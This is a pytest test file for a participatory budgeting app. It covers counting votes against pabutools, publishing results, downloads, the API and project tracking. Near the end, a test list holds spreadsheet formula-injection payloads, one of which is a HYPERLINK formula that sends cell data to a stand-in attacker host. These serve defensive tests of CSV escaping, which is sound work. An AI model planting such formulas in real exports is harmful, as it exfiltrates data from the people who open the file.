"""Closing and counting, publishing, the public results, downloads, the API and accountability."""

from __future__ import annotations

import csv
import io
import json
import random
import re
from datetime import date

import pytest
from pabutools.election.pabulib import parse_pabulib_from_string
from pabutools.rules import completion_by_rule_combination, greedy_utilitarian_welfare, method_of_equal_shares
from sqlalchemy import func, select

from participate.core.after_commit import commit
from participate.core.clock import today
from participate.core.errors import ValidationFailed
from participate.counting import parse_pabulib
from participate.extensions import db
from participate.jobs.models import Job
from participate.results import services
from participate.results.models import BudgetResult, ProjectMilestone, ProjectTracking
from participate.voting import services as voting
from tests.concurrency import DONE, as_request, at_once, races
from tests.conftest import deletes_a_milestone_or_says_why, post_form
from tests.counting.pabu import CostPointsSat, as_points_profile, pabutools_points_k
from tests.factories import make_process, make_proposal, make_user, make_vote, register_voter

VOTING = 21


def _vote(n_proposals=8, n_voters=100, seed=7, **budget):
    process = make_process(days_in=VOTING)
    rng = random.Random(seed)
    proposals = [
        make_proposal(process, status="feasible", cost_minor=rng.randrange(1, 40) * 10_000_00)
        for _ in range(n_proposals)
    ]
    spec = {"name": "City-wide", "budget_minor": 100_000_000, "max_choices": 5, **budget}
    (vote_budget,) = make_vote(process, budgets=[spec])
    ids = [p.id for p in proposals]
    for _ in range(n_voters):
        voter = make_user()
        register_voter(voter, process)
        voting.cast_ballot(voter, vote_budget, rng.sample(ids, rng.randint(1, min(5, len(ids)))), today())
        db.session.commit()
    return process, vote_budget, proposals


def _count(process, staff=None):
    staff = staff or make_user("staff")
    job = services.close_and_count(staff, process)
    commit()  # the job runs inline after the commit in tests
    db.session.expire_all()
    return staff, db.session.get(Job, job.id)


def _pabutools(text, rule):
    instance, profile = parse_pabulib_from_string(text)
    if rule == "greedy":
        prof = as_points_profile(profile, pabutools_points_k(instance, profile))
        return [p.name for p in greedy_utilitarian_welfare(instance, prof, sat_class=CostPointsSat)]
    prof = as_points_profile(profile, pabutools_points_k(instance, profile))
    out = completion_by_rule_combination(
        instance,
        prof,
        [method_of_equal_shares, greedy_utilitarian_welfare],
        [{"sat_class": CostPointsSat, "voter_budget_increment": 1}, {"sat_class": CostPointsSat}],
    )
    return [p.name for p in out]


def test_close_and_count_stores_a_result_that_pabutools_recounts_exactly(app, client):
    process, budget, proposals = _vote()
    staff, job = _count(process)
    assert job.status == "done", job.error
    result = db.session.execute(select(BudgetResult)).scalar_one()
    assert result.status == "counted" and result.voters == 100 and result.unit == "major"
    assert result.selected and result.job_id == job.id
    costs = {str(p.id): p.cost_minor for p in proposals}
    assert result.total_cost_minor == sum(costs[pid] for pid in result.selected) <= budget.budget_minor
    assert result.explanation["kind"] == "mes"

    # Not public before publishing: page, downloads and API.
    assert client.get(f"/processes/{process.slug}/results").status_code == 404
    assert "not published yet" in client.get(f"/processes/{process.slug}/results").get_data(as_text=True)
    assert client.get(f"/processes/{process.slug}/results/{budget.id}/ballots.pb").status_code == 404
    assert client.get(f"/api/v1/processes/{process.id}/results").status_code == 404

    services.publish(staff, process)
    db.session.commit()
    api = client.get(f"/api/v1/processes/{process.id}/results")
    assert api.status_code == 200 and api.headers["Access-Control-Allow-Origin"] == "*"
    (doc,) = api.get_json()["budgets"]
    assert doc["selected"] == result.selected and doc["rule"] == "mes" and doc["sat"] == "cost-points"
    assert doc["completion"] == "add1u" and doc["budget"] == budget.budget_minor // 100
    pb = client.get(doc["ballots_url"].replace("http://localhost", ""))
    assert pb.status_code == 200 and pb.headers["Access-Control-Allow-Origin"] == "*"
    text = pb.get_data(as_text=True)
    import hashlib

    assert hashlib.sha256(pb.get_data()).hexdigest() == result.ballots_sha256
    assert _pabutools(text, "mes") == doc["selected"]
    assert _pabutools(text, "greedy") == result.greedy_selected
    election = parse_pabulib(text)
    assert len(election.ballots) == 100 and election.budget == doc["budget"]
    assert {p.id for p in election.projects} == {str(p.id) for p in proposals}

    # The download is the file that was counted, even after a proposal's title changes.
    old_title = proposals[0].title
    proposals[0].title = "Renamed after the count"
    db.session.commit()
    again = client.get(f"/processes/{process.slug}/results/{budget.id}/ballots.pb")
    assert hashlib.sha256(again.get_data()).hexdigest() == result.ballots_sha256
    assert old_title in again.get_data(as_text=True) and "Renamed after the count" not in again.get_data(
        as_text=True
    )


def test_greedy_rule_recounts_exactly_and_recount_replaces(app, client):
    process, budget, _proposals = _vote(seed=11, rule="greedy", completion="none")
    staff, job = _count(process)
    assert job.status == "done", job.error
    services.publish(staff, process)
    db.session.commit()
    doc = client.get(f"/api/v1/processes/{process.id}/results").get_json()["budgets"][0]
    text = client.get(f"/processes/{process.slug}/results/{budget.id}/ballots.pb").get_data(as_text=True)
    assert _pabutools(text, "greedy") == doc["selected"]

    job = services.recount(staff, process)
    commit()
    db.session.expire_all()
    assert db.session.get(Job, job.id).status == "done"
    assert db.session.scalar(select(func.count()).select_from(BudgetResult)) == 1
    assert db.session.execute(select(BudgetResult)).scalar_one().status == "counted"
    assert client.get(f"/processes/{process.slug}/results").status_code == 404


def test_staff_close_count_and_publish_through_the_results_tab(app, as_user):
    process, budget, _proposals = _vote(n_voters=12, n_proposals=4)
    staff = make_user("staff")
    client = as_user(staff)
    page = client.get(f"/manage/processes/{process.id}/results").get_data(as_text=True)
    assert "Close the vote and count" in page
    response = post_form(client, f"/manage/processes/{process.id}/results/close", {})
    assert response.status_code == 302 and "/jobs/" in response.headers["Location"]
    page = client.get(f"/manage/processes/{process.id}/results").get_data(as_text=True)
    assert "Count again" in page and "Publish results" in page
    assert post_form(client, f"/manage/processes/{process.id}/results/publish", {}).status_code == 302
    assert services.is_published(process)
    public = client.get(f"/processes/{process.slug}/results")
    assert public.status_code == 200
    assert "See the results" in client.get(f"/processes/{process.slug}").get_data(as_text=True)


def test_public_page_chart_table_downloads_and_bulletin(app, client, monkeypatch):
    process, budget, proposals = _vote(n_voters=30, n_proposals=5)
    staff, _job = _count(process)
    services.publish(staff, process)
    db.session.commit()
    result = db.session.execute(select(BudgetResult)).scalar_one()
    page = client.get(f"/processes/{process.slug}/results").get_data(as_text=True)
    svg = re.search(r"<svg.*?</svg>", page, re.S).group(0)
    assert 'role="img"' in svg and f'aria-labelledby="chart-{budget.id}-title"' in svg
    table = re.search(
        rf'<table class="support-table" id="support-{budget.id}">.*?</table>', page, re.S
    ).group(0)
    chart_values = [int(v) for v in re.findall(r'data-value="(\d+)"', svg)]
    table_values = [int(v) for v in re.findall(r'<td class="num">(\d+)</td>', table)]
    assert chart_values == table_values
    assert sorted(chart_values, reverse=True) == chart_values
    assert sum(chart_values) == sum(len(json.loads(c)) for c in _choices(budget))
    assert "supporters" in page and "Voters with at least one funded choice" in page
    engine_texts = [i["text"] for i in result.explanation["funded"] + result.explanation["not_funded"]]
    assert engine_texts and not [t for t in engine_texts if t in page]  # the engine's English is never shown

    from participate.results import present

    with monkeypatch.context() as patch:  # the downloads and the API draw no chart and count no turnout
        for unused in ("bar_chart", "turnout_by_district"):
            patch.setattr(present, unused, lambda *a, **k: pytest.fail("built for a download"))
        patch.setattr(present.voting, "turnout", lambda *a, **k: pytest.fail("built for a download"))
        for url in (f"/processes/{process.slug}/results/{budget.id}/results.csv",
                    f"/processes/{process.slug}/results.json", f"/api/v1/processes/{process.id}/results"):  # fmt: skip
            assert client.get(url).status_code == 200, url
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(f"/processes/{process.slug}/results/{budget.id}/results.csv").get_data(
                    as_text=True
                )
            )
        )
    )
    assert rows[0] == [
        "proposal_id", "name", "cost_SEK", "cost_SEK_minor_units_1/100", "support", "funded", "order",
        "greedy_funded",
    ]  # fmt: skip
    assert all(int(row[3]) == 100 * int(row[2]) for row in rows[1:])  # whole kronor, and the same in öre
    assert len(rows) == 1 + len(proposals)
    document = client.get(f"/processes/{process.slug}/results.json").get_json()
    assert document["budgets"][0]["selected"] == result.selected

    for proposal in proposals:
        proposal.latitude, proposal.longitude = 59.3293, 18.0686
    db.session.commit()
    page = client.get(f"/processes/{process.slug}/results").get_data(as_text=True)
    assert "Where the funded proposals are" in page and "(59.32930, 18.06860)" in page  # the no-JS map

    bulletin = client.get(f"/processes/{process.slug}/results/{budget.id}/ballots").get_data(as_text=True)
    assert "SHA-256" in bulletin
    hashes = re.findall(r"<code>([0-9a-f]{64})</code>", bulletin)
    assert len(hashes) == 30


def _choices(budget):
    from participate.voting.models import Ballot

    return db.session.execute(select(Ballot.choices).where(Ballot.budget_id == budget.id)).scalars().all()


def test_accountability_validation_and_display(app, as_user):
    process, budget, _proposals = _vote(n_voters=10, n_proposals=4)
    staff, _job = _count(process)
    services.publish(staff, process)
    db.session.commit()
    funded = services.funded_proposals(process)[0][1]
    with pytest.raises(ValidationFailed):
        services.set_tracking(staff, process, funded, services.TrackingInput("done", 150))
    db.session.rollback()
    client = as_user(staff)
    url = f"/manage/processes/{process.id}/results/projects/{funded.id}"
    assert client.get(url).status_code == 200
    refused = post_form(client, url + "/tracking", {"status": "in_progress", "progress": "150"})
    assert refused.status_code == 400 and "0 to 100" in refused.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(ProjectTracking)) == 0
    assert (
        post_form(client, url + "/tracking", {"status": "in_progress", "progress": "40"}).status_code == 302
    )
    assert (
        post_form(client, url + "/milestones", {"on": "2026-03-01", "text": "Tender awarded"}).status_code
        == 302
    )
    page = client.get(f"/processes/{process.slug}/results").get_data(as_text=True)
    assert "Tender awarded" in page and "In progress, 40%" in page
    doc = client.get(f"/api/v1/processes/{process.id}/results").get_json()["budgets"][0]
    tracked = next(p for p in doc["projects"] if p["id"] == str(funded.id))
    assert tracked["tracking"]["progress"] == 40 and tracked["tracking"]["status"] == "in_progress"
    assert tracked["tracking"]["milestones"] == [{"date": "2026-03-01", "text": "Tender awarded"}]


def test_a_funded_projects_milestone_is_deleted_and_a_refused_delete_says_why_on_its_page(app, as_user):
    process, _budget, _proposals = _vote(n_voters=10, n_proposals=4)
    staff, _job = _count(process)
    services.publish(staff, process)
    (_b, funded), (_c, other), *_rest = services.funded_proposals(process)
    mine = services.add_milestone(staff, process, funded, date(2026, 3, 1), "Tender awarded")
    theirs = services.add_milestone(staff, process, other, date(2026, 4, 1), "Site cleared")
    db.session.commit()
    client = as_user(staff)
    url = f"/manage/processes/{process.id}/results/projects/{funded.id}"
    assert f"{url}/milestones/{mine.id}/delete" in client.get(url).get_data(as_text=True)
    deletes_a_milestone_or_says_why(
        client, url, lambda milestone_id: f"{url}/milestones/{milestone_id}/delete", mine.id, theirs.id
    )
    assert db.session.scalars(select(ProjectMilestone.text)).all() == ["Site cleared"]


def test_openapi_lists_the_results_path(client):
    spec = client.get("/api/v1/openapi.json").get_json()
    assert "/processes/{process_id}/results" in spec["paths"]


def test_swedish_results_page_explains_in_swedish(app, client):
    process, budget, _proposals = _vote(n_voters=30, n_proposals=6)
    staff, _job = _count(process)
    services.publish(staff, process)
    db.session.commit()
    page = client.get(f"/processes/{process.slug}/results", headers={"Accept-Language": "sv"}).get_data(
        as_text=True
    )
    assert '<html lang="sv">' in page
    assert "Finansierades" in page and "Not funded:" not in page and "Funded:" not in page


def test_an_impossible_rule_fails_the_job_with_a_clear_message(app):
    process, _budget, _proposals = _vote(n_voters=5, n_proposals=3, rule="phragmen", sat=None)
    _staff, job = _count(process)
    assert job.status == "failed"
    assert "City-wide" in job.error and "phragmen" in job.error
    assert db.session.scalar(select(func.count()).select_from(BudgetResult)) == 0


def test_a_vote_nobody_voted_in_is_still_counted(app):
    process = make_process(days_in=VOTING)
    make_proposal(process, status="feasible")
    make_vote(process)
    _staff, job = _count(process)
    assert job.status == "done", job.error
    result = db.session.execute(select(BudgetResult)).scalar_one()
    assert result.voters == 0 and result.comparison["rule_share_percent"] == 0.0


def test_points_ballots_export_a_points_column_and_minor_units(app, client):
    process = make_process(days_in=VOTING)
    proposals = [
        make_proposal(process, status="feasible", cost_minor=c) for c in (300_000_50, 200_000_00, 500_000_00)
    ]
    (budget,) = make_vote(
        process,
        budgets=[{"name": "Points", "budget_minor": 600_000_00, "ballot_type": "points", "points_total": 10}],
    )
    ids = [p.id for p in proposals]
    for split in ([[ids[0], 6], [ids[1], 4]], [[ids[2], 10]], [[ids[1], 5], [ids[2], 5]]):
        voter = make_user()
        register_voter(voter, process)
        voting.cast_ballot(voter, budget, split, today())
        commit()
    staff, job = _count(process)
    assert job.status == "done", job.error
    result = db.session.execute(select(BudgetResult)).scalar_one()
    assert result.unit == "minor"  # one cost has öre: the export keeps minor units
    assert result.comparison["support"] == {str(ids[0]): 6, str(ids[1]): 9, str(ids[2]): 15}
    services.publish(staff, process)
    commit()
    text = client.get(f"/processes/{process.slug}/results/{budget.id}/ballots.pb").get_data(as_text=True)
    election = parse_pabulib(text)
    assert election.vote_type == "cumulative" and election.budget == 600_000_00
    assert "voter_id;vote;points" in text
    assert sorted(b.points for b in election.ballots) == sorted([(6, 4), (10,), (5, 5)])
    doc = client.get(f"/api/v1/processes/{process.id}/results").get_json()["budgets"][0]
    assert doc["unit"] == "minor" and doc["budget"] == 600_000_00


def test_the_count_is_audited_with_the_export_hash_and_recount_needs_a_closed_vote(app):
    from participate.audit.models import AuditEntry
    from participate.core.errors import Conflict

    process, _budget, _proposals = _vote(n_voters=5, n_proposals=3)
    staff = make_user("staff")
    with pytest.raises(Conflict):
        services.recount(staff, process)
    db.session.rollback()
    _staff, _job = _count(process, staff)
    result = db.session.execute(select(BudgetResult)).scalar_one()
    entry = db.session.execute(select(AuditEntry).where(AuditEntry.action == "results.counted")).scalar_one()
    assert result.ballots_sha256 in entry.data and entry.actor_id == staff.id
    with pytest.raises(Conflict):
        services.close_and_count(staff, process)


def test_plain_language_reasons_for_greedy_and_ear(app):
    from fractions import Fraction

    from participate.counting import count, make_election
    from participate.results.explain import reasons

    election = make_election(
        budget=100,
        vote_type="ordinal",
        projects=[("1", 60), ("2", 50), ("3", 30)],
        ballots=[("1", "2"), ("2", "3"), ("1",), ("3", "1"), ("2",)],
    )

    def money(x: Fraction) -> str:
        return f"{float(x):.0f} kr"

    with app.test_request_context():
        intro, why = reasons(count(election, rule="greedy", sat="cost-points").explanation, money)
        assert why["1"].funded and why["1"].sentences == ["Funded: ranked 1 with a score of 300."]
        assert not why["2"].funded
        assert why["2"].sentences == [
            "Not funded: ranked 2 with a score of 250, but it did not fit: 40 kr was left and it needed 50 kr."
        ]
        intro, why = reasons(count(election, rule="ear").explanation, money)
        assert (
            why["3"].funded and "top 2" in why["3"].sentences[0] and "quota of 1.50" in why["3"].sentences[0]
        )
        assert why["1"].sentences == ["Not funded: its supporters' weight never reached its quota."]


def test_the_nightly_command_closes_and_counts_votes_whose_phase_ended(app, runner):
    from datetime import timedelta

    from participate.core.clock import today
    from participate.processes.models import Phase
    from participate.results.services import results_of
    from participate.voting import services as voting_services

    ended = make_process(days_in=21)
    running = make_process(days_in=21)
    proposal = make_proposal(ended, status="feasible", cost_minor=10_000_00)
    (budget,) = make_vote(ended)
    make_vote(running)
    voter = make_user()
    register_voter(voter, ended)
    voting_services.cast_ballot(voter, budget, [proposal.id], today())
    for window in ended.phases:  # a week later: the voting phase ended yesterday
        window.starts_on -= timedelta(days=7)
        window.ends_on -= timedelta(days=7)
    db.session.commit()
    assert ended.window(Phase.VOTING).ends_on == today() - timedelta(days=1)

    result = runner.invoke(args=["close-ended-votes"])
    assert result.exit_code == 0, result.output
    assert "1 vote(s) closed." in result.output
    assert voting_services.settings_of(ended).closed_at is not None
    assert voting_services.settings_of(running).closed_at is None
    assert results_of(ended)[budget.id].selected == [str(proposal.id)]
    assert "0 vote(s) closed." in runner.invoke(args=["close-ended-votes"]).output


def test_the_export_unit_follows_the_currency_minor_units():
    from participate.results.export import MAJOR, MINOR, unit_factor, unit_for

    assert unit_for(600_000_00, [120_000_00, 45_500_00], "SEK") == MAJOR and unit_factor(MAJOR, "SEK") == 100
    assert unit_for(600_000_00, [120_000_50], "SEK") == MINOR and unit_factor(MINOR, "SEK") == 1
    # yen have no minor unit: every amount is whole
    assert unit_for(600_001, [12_345], "JPY") == MAJOR and unit_factor(MAJOR, "JPY") == 1
    # Kuwaiti dinars have 1,000 fils
    assert unit_for(5_000, [2_000], "KWD") == MAJOR and unit_factor(MAJOR, "KWD") == 1000
    assert unit_for(5_000, [1_550], "KWD") == MINOR


def test_the_latest_count_of_a_process_is_found_behind_many_of_other_processes(app):
    process = make_process(days_in=VOTING)
    other = make_process(days_in=VOTING)
    ours = Job(kind=services.COUNT_JOB, params={"process_id": process.id})
    db.session.add(ours)
    db.session.flush()
    db.session.add_all(Job(kind=services.COUNT_JOB, params={"process_id": other.id}) for _ in range(250))
    db.session.commit()
    assert services.latest_count_job(process).id == ours.id
    assert services.latest_count_job(other).id > ours.id
    assert services.latest_count_job(make_process(days_in=VOTING)) is None


@races
def test_two_first_tracking_saves_at_once_make_one_row(app):
    process, _budget, _proposals = _vote(n_voters=10, n_proposals=4)
    staff, _job = _count(process)
    services.publish(staff, process)
    db.session.commit()
    funded = services.funded_proposals(process)[0][1]
    staff_id, process_id, proposal_id = staff.id, process.id, funded.id

    def save(status: str) -> None:
        from participate.accounts.models import User
        from participate.processes.models import Process
        from participate.proposals.models import Proposal

        services.set_tracking(db.session.get(User, staff_id), db.session.get(Process, process_id),
                              db.session.get(Proposal, proposal_id), services.TrackingInput(status, 10))  # fmt: skip

    assert (
        at_once(app, [as_request(lambda: save("in_progress")), as_request(lambda: save("planned"))])
        == [DONE] * 2
    )
    assert db.session.scalar(select(func.count()).select_from(ProjectTracking)) == 1


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def test_the_public_results_csv_neutralises_formulas_in_every_text_cell(app, client):
    process, budget, proposals = _vote(n_voters=10, n_proposals=len(FORMULAS))
    for proposal, title in zip(proposals, FORMULAS, strict=True):
        proposal.title = title
    db.session.commit()
    staff, _job = _count(process)
    services.publish(staff, process)
    db.session.commit()
    text = client.get(f"/processes/{process.slug}/results/{budget.id}/results.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert sorted(row[1] for row in rows) == sorted("'" + title for title in FORMULAS)
    assert all(row[2].isdigit() and row[3].isdigit() for row in rows)  # numbers stay numbers


def test_spreadsheet_safe_leaves_numbers_and_plain_text_alone():
    from participate.core.csv_export import csv_text, spreadsheet_safe

    assert [spreadsheet_safe(v) for v in (-5, 3.5, "Park", "a=b", "", None)] == [
        -5,
        3.5,
        "Park",
        "a=b",
        "",
        None,
    ]
    assert csv_text(["=h"], [["-x", -1], ["a\rb", 2]]) == "'=h\r\n'-x,-1\r\n\"a\rb\",2\r\n"
